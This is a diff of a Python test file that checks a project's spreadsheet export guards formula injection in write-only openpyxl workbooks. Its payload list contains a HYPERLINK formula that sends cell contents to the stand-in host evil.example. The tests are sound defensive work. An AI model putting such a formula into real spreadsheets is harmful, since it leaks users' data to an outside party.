@@ -9,8 +9,16 @@ import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
+from openpyxl.styles import Font
 
-from childfirst.ui.spreadsheets import csv_safe, csv_writer, risky, workbook_bytes
+from childfirst.ui.spreadsheets import (
+    csv_safe,
+    csv_writer,
+    risky,
+    styled,
+    workbook_bytes,
+    write_only_sheet,
+)
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
@@ -46,6 +54,45 @@ def test_a_workbook_holds_no_formula_and_each_risky_cell_is_quote_prefixed():
     assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS] + ["Good", -3, 2.5]
     assert [c.data_type for c in cells] == ["s"] * 8 + ["n", "n"]
     assert [c.quotePrefix for c in cells] == [True] * 7 + [False] * 3
+
+
+def test_a_write_only_sheet_keeps_text_as_text_as_its_rows_go_in():
+    book = Workbook(write_only=True)
+    sheet = write_only_sheet(book, "Answers")
+    sheet.append([*PAYLOADS, "Good", -3, 2.5])
+    bold = Font(bold=True)
+    sheet.append([styled(sheet, "=1+1", font=bold), styled(sheet, "Plain", font=bold), "", None, 4])
+    data = workbook_bytes(book)
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
+    first, second = load_workbook(io.BytesIO(data))["Answers"].iter_rows()
+    assert [c.value for c in first] == [p.replace("\r", "\n") for p in PAYLOADS] + ["Good", -3, 2.5]
+    assert [c.data_type for c in first] == ["s"] * 8 + ["n", "n"]
+    assert [c.quotePrefix for c in first] == [True] * 7 + [False] * 3
+    # A styled cell is guarded too and keeps its style; an empty string is an empty cell.
+    assert [c.value for c in second[:5]] == ["=1+1", "Plain", None, None, 4]
+    assert [(c.data_type, c.quotePrefix, c.font.b) for c in second[:2]] == [
+        ("s", True, True),
+        ("s", False, True),
+    ]
+
+
+def test_a_write_only_sheet_made_otherwise_is_refused():
+    book = Workbook(write_only=True)
+    book.create_sheet("Unguarded")
+    with pytest.raises(ValueError, match="Unguarded"):
+        workbook_bytes(book)
+    with pytest.raises(TypeError):
+        write_only_sheet(Workbook(), "Normal")
+
+
+def test_a_write_only_workbook_saved_at_a_given_time_is_the_same_bytes(monkeypatch):
+    def make():
+        book = Workbook(write_only=True)
+        write_only_sheet(book, "KPI").append(["KPI 1", 2, 3])
+        return workbook_bytes(book, saved_at=dt.datetime(2024, 4, 1))
+
+    assert _saved_a_day_later(monkeypatch, make) == make()
 
 
 def test_csv_rows_neutralise_risky_text_only():
